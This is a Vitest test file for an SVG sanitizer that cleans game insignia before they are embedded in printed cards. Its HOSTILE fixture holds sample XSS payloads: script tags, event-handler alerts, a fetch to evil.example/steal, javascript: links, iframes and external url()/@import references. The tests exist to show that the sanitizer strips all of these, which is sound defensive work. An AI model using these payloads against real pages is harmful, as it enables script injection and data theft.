import { describe, it, expect } from 'vitest';
import { cpSync, mkdirSync, mkdtempSync, readFileSync, writeFileSync } from 'node:fs';
import { join } from 'node:path';
import { tmpdir } from 'node:os';
import { sanitizeSvg } from '../../src/print/sanitize-svg.js';
import { sideInsignia } from '../../src/parts/cards/insignia.js';
import { BUNDLED_TEMPLATE_DIR, templateDirs } from '../../src/load/find-template.js';
import { loadScenario } from '../../src/load/load-scenario.js';
import { ScenarioError } from '../../src/load/problem.js';

// A game's insignia SVG is embedded in every card it prints. Whoever opens the printed SVG must get the
// drawing and nothing else: no script, no handler, no request to another site.
const HOSTILE = `<?xml version="1.0"?>
<svg xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink" viewBox="0 0 100 100"
     data-corner="right" onload="alert('root')">
  <script>alert('script')</script>
  <script type="text/javascript"><![CDATA[ fetch('http://evil.example/steal') ]]></script>
  <defs><linearGradient id="g"><stop offset="0" stop-color="#fff"/></linearGradient></defs>
  <circle cx="50" cy="50" r="40" fill="url(#g)" onclick="alert('click')" ONMOUSEOVER="alert('over')"/>
  <rect width="10" height="10" fill="url(http://evil.example/p.svg#g)" stroke="#000"/>
  <rect width="5" height="5" style="fill:url('https://evil.example/x');stroke:red;fill:u\\72l(http://x)"/>
  <foreignObject width="100" height="100">
    <iframe xmlns="http://www.w3.org/1999/xhtml" src="http://evil.example"/>
  </foreignObject>
  <image href="http://evil.example/track.png" width="1" height="1"/>
  <use xlink:href="http://evil.example/sprite.svg#a"/>
  <use href="data:image/svg+xml;base64,PHN2Zz48L3N2Zz4="/>
  <use href="#g"/>
  <a href="javascript:alert('link')"><circle r="1"/></a>
  <path d="M0 0L10 10">
    <animate attributeName="href" to="javascript:alert('anim')"/><set attributeName="onclick"/>
  </path>
  <style>@import url(http://evil.example/a.css);</style>
  <style>.x { fill: url(http://evil.example/f) }</style>
  <style>.y { fill: #123456 }</style>
  <text x="5" y="5">&lt;script&gt;not code&lt;/script&gt; &amp; text</text>
</svg>`;

describe('sanitizeSvg keeps the drawing of a game-supplied SVG and nothing that runs or fetches', () => {
  const { attrs, inner } = sanitizeSvg(HOSTILE);

  it('removes scripts, event handlers, foreign HTML, animation and links', () => {
    expect(inner).not.toMatch(/<script|alert|fetch\(|onclick|onmouseover|onload|foreignObject|iframe/i);
    expect(inner).not.toMatch(/<animate|<set|<a[ >]|javascript:/);
    expect(attrs).not.toHaveProperty('onload');
  });

  it('removes every reference outside the document: href, xlink:href, url() and @import', () => {
    expect(inner).not.toMatch(/evil\.example|data:image|<image|@import|\\72/);
    expect(inner).toContain('<use href="#g"/>');
    expect(inner).toContain('fill="url(#g)"');
    expect(inner).toContain('<rect width="10" height="10" stroke="#000"/>');
    expect(inner).toContain('<rect width="5" height="5" style="stroke:red"/>');
  });

  it('keeps text, escaped, and no <style> at all: its rules would restyle the whole sheet the mark is on', () => {
    expect(inner).not.toContain('<style');
    expect(inner).toContain('&lt;script&gt;not code&lt;/script&gt; &amp; text');
    expect(attrs['data-corner']).toBe('right');
  });

  it('keeps the bundled insignia whole', () => {
    const allied = sanitizeSvg(readFileSync(join(BUNDLED_TEMPLATE_DIR, 'insignia/allied.svg'), 'utf8'));
    expect(allied.attrs['data-corner']).toBe('left');
    expect(allied.inner.match(/<circle /g)).toHaveLength(2);
    expect(allied.inner).toMatch(/<polygon points="50\.00,16\.00 [^"]+" fill="#ffffff"\/>/);
  });

  it('never expands a declared entity, and refuses a root other than <svg>', () => {
    const withEntity = sanitizeSvg('<!DOCTYPE svg [<!ENTITY a "aaaa">]><svg><text>&a;</text></svg>');
    expect(withEntity.inner).toBe('<text>&amp;a;</text>');
    expect(() => sanitizeSvg('<html><script>x</script></html>')).toThrow(/not <svg>/);
    expect(() => sanitizeSvg('<svg><g></svg>')).toThrow();
  });
});

describe("a game's insignia on its cards", () => {
  function gameWithInsignia(svg: string) {
    const game = join(mkdtempSync(join(tmpdir(), 'sandtable-insignia-')), 'game');
    cpSync('tests/fixtures/cards-deck', game, { recursive: true });
    mkdirSync(join(game, 'templates/insignia'), { recursive: true });
    writeFileSync(join(game, 'templates/insignia/german.svg'), svg);
    return loadScenario(game);
  }

  it('is embedded without its script, in the corner it asks for', () => {
    const s = gameWithInsignia(HOSTILE);
    const i = sideInsignia(s.game.sides[0], templateDirs(s));
    expect(i.corner).toBe('right');
    expect(i.svg).toContain('<circle cx="50" cy="50" r="40" fill="url(#g)"/>');
    expect(i.svg).not.toMatch(/<script|alert|evil\.example/);
  });

  it('that is not SVG is refused naming the file, rather than pasted into every card', () => {
    const s = gameWithInsignia('<svg><g></svg>');
    let e: unknown;
    try {
      sideInsignia(s.game.sides[0], templateDirs(s));
    } catch (x) {
      e = x;
    }
    expect(e).toBeInstanceOf(ScenarioError);
    expect((e as ScenarioError).problems[0].file).toMatch(/insignia\/german\.svg$/);
    expect((e as ScenarioError).message).toMatch(/is not an SVG drawing Sandtable can read/);
  });
});
